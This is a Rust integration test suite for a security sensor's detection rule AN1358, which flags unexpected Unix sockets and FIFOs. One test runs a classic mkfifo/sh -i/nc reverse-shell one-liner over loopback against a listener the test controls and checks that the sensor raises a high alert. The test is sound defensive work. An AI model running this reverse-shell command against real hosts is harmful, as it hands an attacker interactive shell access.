//! AN1358 live, end to end: the real daemon (`sensor run`) with the kernel sensor attached, real
//! processes on this machine binding AF_UNIX sockets and making FIFOs, alerts read back through the
//! control socket with the CLI, triaged, and still there (with the learned baseline) after a restart.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use serde_json::Value;
use tests::process::Process;

struct Daemon {
    process: Process,
    socket: PathBuf,
}

/// Each daemon of a test logs to a file of its own (a restarted daemon's readiness is read from
/// its own log, not from its predecessor's).
static STARTS: AtomicUsize = AtomicUsize::new(0);

impl Daemon {
    fn start(config: &Path, dir: &Path, socket: &Path) -> Daemon {
        let log = dir.join(format!(
            "daemon-{}.log",
            STARTS.fetch_add(1, Ordering::Relaxed)
        ));
        let mut cmd = Command::new(tests::sensor_bin());
        cmd.args(["run", "--config"]).arg(config);
        let mut process = Process::spawn(cmd, &log);
        process.wait_ready(Duration::from_secs(60), "the daemon to start", || {
            std::fs::read_to_string(&log)
                .unwrap_or_default()
                .contains("sensor running")
        });
        let text = process.log();
        assert!(
            text.contains("source=kernel") || text.contains("source attached"),
            "kernel not attached:\n{text}"
        );
        Daemon {
            process,
            socket: socket.to_path_buf(),
        }
    }

    fn stop(mut self) -> String {
        let status = self.process.stop(Duration::from_secs(60));
        let text = self.process.log();
        assert!(
            status.is_some_and(|s| s.success()),
            "daemon exit {status:?}:\n{text}"
        );
        text
    }

    fn cli(&self, args: &[&str]) -> Output {
        Command::new(tests::sensor_bin())
            .args(args)
            .arg("--socket")
            .arg(&self.socket)
            .output()
            .unwrap()
    }

    fn alerts(&self) -> Vec<Value> {
        let o = self.cli(&["alerts", "list", "--json", "--limit", "5000"]);
        assert!(
            o.status.success(),
            "alerts list: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        String::from_utf8_lossy(&o.stdout)
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    fn wait_alert(&self, what: &str, needle: &str) -> (Value, Duration) {
        let t0 = Instant::now();
        loop {
            if let Some(a) = self
                .alerts()
                .into_iter()
                .find(|a| a["reason"].as_str().unwrap_or("").contains(needle))
            {
                return (a, t0.elapsed());
            }
            assert!(
                t0.elapsed() < Duration::from_secs(20),
                "no alert for {what} ({needle}) within 20 s; log:\n{}",
                self.process.log()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

/// A real process binds an AF_UNIX socket at `path` and connects to it, then exits.
fn unix_bind(path: &str) {
    let _ = std::fs::remove_file(path);
    let l = std::os::unix::net::UnixListener::bind(path).unwrap();
    let _c = std::os::unix::net::UnixStream::connect(path).unwrap();
    drop(l);
    let _ = std::fs::remove_file(path);
}

#[test]
fn an1358_fires_live_on_unexpected_unix_socket_and_fifo_and_survives_restart() {
    if !tests::require_root(
        "an1358_fires_live_on_unexpected_unix_socket_and_fifo_and_survives_restart",
    ) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("control.sock");
    let pid = std::process::id();
    // The test binary itself is the actor: its executable path is the baseline key. An allowed path
    // for this executable is configured; a second path is not.
    let exe = std::env::current_exe().unwrap();
    let config = dir.path().join("sensor.toml");
    std::fs::write(
        &config,
        format!(
            r#"state_dir = "{state}"
[api]
socket = "{socket}"
[rules.settings.AN1358]
SocketPathBaseline = {{ learning_period = "0s", allow = [ {{ key = "{exe}", value = "/tmp/an1358-allowed-*" }} ] }}
DecisionDelay = "1s"
"#,
            state = dir.path().join("state").display(),
            socket = socket.display(),
            exe = exe.display(),
        ),
    )
    .unwrap();
    let check = Command::new(tests::sensor_bin())
        .args(["config", "check"])
        .arg(&config)
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "config check: {}",
        String::from_utf8_lossy(&check.stderr)
    );

    let d = Daemon::start(&config, dir.path(), &socket);
    // Allowed by the baseline: same behaviour, allow-listed path.
    let allowed = format!("/tmp/an1358-allowed-{pid}.sock");
    unix_bind(&allowed);
    // Unexpected: the same process, a path outside its baseline.
    let evil = format!("/tmp/an1358-evil-{pid}.sock");
    unix_bind(&evil);
    let (sock_alert, sock_latency) = d.wait_alert("AF_UNIX socket outside the baseline", &evil);
    // A FIFO in /dev/shm made and opened by processes outside FIFOAccessPatterns.
    let fifo = format!("/dev/shm/an1358-{pid}");
    let _ = std::fs::remove_file(&fifo);
    let st = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "mkfifo {fifo} && (cat {fifo} >/dev/null &) && echo x > {fifo}"
        ))
        .status()
        .unwrap();
    assert!(st.success());
    let (fifo_alert, fifo_latency) = d.wait_alert("FIFO in /dev/shm", &fifo);
    let _ = std::fs::remove_file(&fifo);
    // No shell driven through it, no network peer: the FIFO alone is low.
    assert_eq!(fifo_alert["severity"], "low", "{fifo_alert:#}");
    eprintln!("AN1358 live: socket alert after {sock_latency:?} (poll interval 50 ms), FIFO alert after {fifo_latency:?}");

    for a in [&sock_alert, &fifo_alert] {
        assert_eq!(a["rule_id"], "AN1358");
        assert_eq!(a["attack"]["analytic"], "AN1358");
        assert_eq!(a["attack"]["strategy"], "DET0493");
        assert_eq!(a["attack"]["techniques"][0], "T1559");
    }
    // Give the allowed bind time to have been processed before asserting silence about it.
    std::thread::sleep(Duration::from_millis(500));
    let all = d.alerts();
    assert!(
        !all.iter()
            .any(|a| a["reason"].as_str().unwrap_or("").contains(&allowed)),
        "the allow-listed socket path raised an alert: {all:#?}"
    );
    // Evidence carries the kernel event of the actor.
    let id = sock_alert["id"].as_i64().unwrap().to_string();
    let show = d.cli(&["alerts", "show", &id, "--json"]);
    assert!(
        show.status.success(),
        "{}",
        String::from_utf8_lossy(&show.stderr)
    );
    let shown = String::from_utf8_lossy(&show.stdout);
    assert!(
        shown.contains(&evil) && shown.contains(&pid.to_string()),
        "evidence lacks the path or the actor pid: {shown}"
    );
    // Triage, then restart: the alert, its status, and the learned baseline are still there.
    let ack = d.cli(&["alerts", "ack", &id, "--reason", "live test"]);
    assert!(
        ack.status.success(),
        "{}",
        String::from_utf8_lossy(&ack.stderr)
    );
    d.stop();
    assert!(
        dir.path().join("state/analytics-state.json").exists(),
        "baselines were not saved at shutdown"
    );

    let d = Daemon::start(&config, dir.path(), &socket);
    let again = d.alerts();
    let same = again
        .iter()
        .find(|a| a["id"] == sock_alert["id"])
        .expect("alert survived the restart");
    assert_eq!(same["status"], "acknowledged");
    // The same (executable, path) again is in the restored baseline now: no new alert, no repeat.
    unix_bind(&evil);
    let other = format!("/tmp/an1358-second-{pid}.sock");
    unix_bind(&other);
    d.wait_alert("a second unexpected path after restart", &other);
    let after = d.alerts();
    let same = after.iter().find(|a| a["id"] == sock_alert["id"]).unwrap();
    assert_eq!(
        same["count"], 1,
        "the restored baseline should know {evil}: {same:#}"
    );
    d.stop();
}

/// A daemon with AN1358's decision delay shortened, for the FIFO wiring tests.
fn wiring_daemon(dir: &Path) -> Daemon {
    let socket = dir.join("control.sock");
    let config = dir.join("sensor.toml");
    std::fs::write(
        &config,
        format!(
            "state_dir = \"{}\"\n[api]\nsocket = \"{}\"\n[rules.settings.AN1358]\nDecisionDelay = \"2s\"\n",
            dir.join("state").display(),
            socket.display()
        ),
    )
    .unwrap();
    Daemon::start(&config, dir, &socket)
}

fn show(d: &Daemon, alert: &Value) -> Value {
    let id = alert["id"].as_i64().unwrap().to_string();
    let o = d.cli(&["alerts", "show", &id, "--json"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    serde_json::from_slice(&o.stdout).unwrap()
}

/// The evidence documents of a shown alert, by their `sensor.ipc.role`.
fn by_role<'a>(shown: &'a Value, role: &str) -> Vec<&'a Value> {
    let ev = shown["evidence"]
        .as_array()
        .or_else(|| shown["alert"]["evidence"].as_array())
        .unwrap_or_else(|| panic!("no evidence array in {shown:#}"));
    ev.iter()
        .filter(|d| d["sensor"]["ipc"]["role"] == role)
        .collect()
}

fn lineage(doc: &Value) -> Vec<String> {
    doc["sensor"]["ipc"]["lineage"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x.as_str().unwrap().to_string())
        .collect()
}

/// Runs a shell command line with a deadline (the pipeline must not hang the test).
fn run_with_deadline(cmd: &str, secs: u64) {
    let mut child = Command::new("/bin/sh").arg("-c").arg(cmd).spawn().unwrap();
    let t0 = Instant::now();
    loop {
        if let Some(st) = child.try_wait().unwrap() {
            assert!(st.success(), "`{cmd}` failed: {st}");
            return;
        }
        if t0.elapsed() > Duration::from_secs(secs) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("`{cmd}` did not finish within {secs} s");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// The classic FIFO reverse shell, for real: `mkfifo F; cat F | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > F`
/// with busybox's `nc` connecting over loopback to a listener this test runs, which sends the shell a
/// command and reads its answer. AN1358 must give one HIGH alert naming mkfifo (creator), cat
/// (reader), the shell, and nc (writer, connected) with their lineage.
#[test]
fn an1358_live_fifo_reverse_shell_is_high_with_creator_reader_shell_and_connector() {
    if !tests::require_root(
        "an1358_live_fifo_reverse_shell_is_high_with_creator_reader_shell_and_connector",
    ) {
        return;
    }
    let busybox = Path::new("/usr/bin/busybox");
    assert!(
        busybox.exists(),
        "busybox (Debian busybox-static) is needed for its nc: run `cargo xtask setup`"
    );
    // The network tool lives outside the writable directories (WritableExecDirs: /tmp, /dev/shm,
    // /var/tmp), so only its connection can make it the driver. Not under the target directory: a
    // checkout under /tmp (as a CI clone may be) would put it in a writable directory.
    let bin = PathBuf::from("/run").join(format!("sensor-test-an1358-{}", std::process::id()));
    std::fs::create_dir_all(&bin).unwrap();
    let nc = bin.join("nc");
    let _ = std::fs::remove_file(&nc);
    std::os::unix::fs::symlink(busybox, &nc).unwrap();

    let dir = tempfile::tempdir().unwrap();
    let d = wiring_daemon(dir.path());

    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let attacker = std::thread::spawn(move || -> String {
        use std::io::{Read, Write};
        let (mut c, _) = listener.accept().unwrap();
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        c.write_all(b"echo pwned-$((40+2))\n").unwrap();
        let mut got = Vec::new();
        let mut buf = [0u8; 512];
        while !String::from_utf8_lossy(&got).contains("pwned-42") {
            match c.read(&mut buf) {
                Ok(0) | Err(_) => break,
                Ok(n) => got.extend_from_slice(&buf[..n]),
            }
        }
        let _ = c.write_all(b"exit\n");
        String::from_utf8_lossy(&got).into_owned()
    });
    let fifo = format!("/tmp/an1358-rs-{}", std::process::id());
    let _ = std::fs::remove_file(&fifo);
    run_with_deadline(
        &format!(
            "mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | {nc} 127.0.0.1 {port} > {fifo}; rm -f {fifo}",
            nc = nc.display()
        ),
        30,
    );
    let answer = attacker.join().unwrap();
    assert!(
        answer.contains("pwned-42"),
        "the shell did not answer through the FIFO: {answer:?}"
    );

    let (alert, latency) = d.wait_alert("the FIFO reverse shell", &format!("FIFO {fifo} lets"));
    eprintln!(
        "AN1358 live reverse shell: alert after {latency:?}: {}",
        alert["reason"]
    );
    assert_eq!(alert["rule_id"], "AN1358");
    assert_eq!(alert["severity"], "high", "{alert:#}");
    let reason = alert["reason"].as_str().unwrap();
    for want in [
        "lets a network peer drive a shell".to_string(),
        "`/bin/sh -i`".to_string(),
        format!("`cat {fifo}`"),
        "which reads it".to_string(),
        format!("nc 127.0.0.1 {port}`"),
        format!("connected to 127.0.0.1:{port}"),
        format!("created by `mkfifo {fifo}`"),
        "Lineage:".to_string(),
    ] {
        assert!(reason.contains(&want), "reason lacks {want:?}: {reason}");
    }
    let shown = show(&d, &alert);
    let one = |role: &str| -> Value {
        let v = by_role(&shown, role);
        assert!(!v.is_empty(), "no {role} in the evidence: {shown:#}");
        v[0].clone()
    };
    let creator = one("creator");
    assert_eq!(creator["process"]["name"], "mkfifo", "{creator:#}");
    assert_eq!(creator["event"]["action"], "fifo_create");
    let reader = one("reader");
    assert_eq!(reader["process"]["name"], "cat", "{reader:#}");
    assert_eq!(reader["file"]["access_mode"], "read");
    let writer = one("writer");
    assert_eq!(writer["file"]["access_mode"], "write", "{writer:#}");
    // The redirection is opened by the forked shell before it execs nc: the evidence says what the
    // process became.
    assert!(
        writer["sensor"]["ipc"]["process"]
            .as_str()
            .unwrap()
            .contains(&format!("127.0.0.1 {port}")),
        "{writer:#}"
    );
    let shell = one("shell");
    assert_eq!(
        shell["process"]["args"],
        serde_json::json!(["/bin/sh", "-i"]),
        "{shell:#}"
    );
    let net = one("network");
    assert_eq!(net["event"]["action"], "tcp_connect", "{net:#}");
    assert_eq!(net["destination"]["port"], port, "{net:#}");
    assert_eq!(net["process"]["pid"], writer["process"]["pid"]);
    // Lineage: each names itself, then the `sh -c` that ran the pipeline (one parent for all).
    let parents: Vec<String> = [&creator, &reader, &writer, &shell]
        .iter()
        .map(|doc| {
            let l = lineage(doc);
            assert!(l.len() >= 3, "short lineage {l:?}");
            l[1].clone()
        })
        .collect();
    assert!(
        parents
            .iter()
            .all(|p| p == &parents[0] && p.starts_with("sh[")),
        "pipeline members should share their parent shell: {parents:?}"
    );
    // One alert for this FIFO: the low one does not follow once the decision delay has passed.
    std::thread::sleep(Duration::from_secs(5));
    let about: Vec<Value> = d
        .alerts()
        .into_iter()
        .filter(|a| {
            a["reason"]
                .as_str()
                .unwrap_or("")
                .starts_with(&format!("[fifo-wiring] FIFO {fifo} "))
        })
        .collect();
    assert_eq!(about.len(), 1, "{about:#?}");
    d.stop();
    let _ = std::fs::remove_dir_all(&bin);
}

/// A script's FIFO: `mkfifo F; seq 1 5000 > F & wc -l < F`: no shell driven through it, no network
/// peer. AN1358 must not raise it above LOW (and, shown by the low alert, did see it).
#[test]
fn an1358_live_script_fifo_is_not_above_low() {
    if !tests::require_root("an1358_live_script_fifo_is_not_above_low") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let d = wiring_daemon(dir.path());
    let fifo = format!("/tmp/an1358-script-{}", std::process::id());
    let _ = std::fs::remove_file(&fifo);
    run_with_deadline(
        &format!(
            "mkfifo {fifo}; seq 1 5000 > {fifo} & wc -l < {fifo} > /dev/null; wait; rm -f {fifo}"
        ),
        30,
    );
    let (alert, latency) = d.wait_alert("the script FIFO", &format!("FIFO {fifo} passes data"));
    eprintln!(
        "AN1358 live script FIFO: alert after {latency:?}: {}",
        alert["reason"]
    );
    assert_eq!(alert["severity"], "low", "{alert:#}");
    let reason = alert["reason"].as_str().unwrap();
    // dash opens a simple command's `< F` in the script shell itself before forking `wc`, so the
    // kernel names the script's `sh -c` as the reader: a shell takes input, nothing drives it.
    for want in [
        format!("created by `mkfifo {fifo}`"),
        "written by `seq 1 5000`".to_string(),
        "read by `/bin/sh -c mkfifo".to_string(),
        "but nothing feeding it made a network connection".to_string(),
    ] {
        assert!(reason.contains(&want), "reason lacks {want:?}: {reason}");
    }
    let shown = show(&d, &alert);
    for (role, name) in [("creator", "mkfifo"), ("writer", "seq"), ("reader", "sh")] {
        let docs = by_role(&shown, role);
        assert!(
            docs.iter().any(|doc| doc["sensor"]["ipc"]["lineage"][0]
                .as_str()
                .is_some_and(|l| l.starts_with(&format!("{name}[")))),
            "no {role} {name} in the evidence: {shown:#}"
        );
    }
    std::thread::sleep(Duration::from_secs(3));
    let above: Vec<Value> = d
        .alerts()
        .into_iter()
        .filter(|a| {
            a["reason"]
                .as_str()
                .unwrap_or("")
                .starts_with(&format!("[fifo-wiring] FIFO {fifo} "))
                && a["severity"] != "low"
        })
        .collect();
    assert!(
        above.is_empty(),
        "the script FIFO was raised above low: {above:#?}"
    );
    d.stop();
}
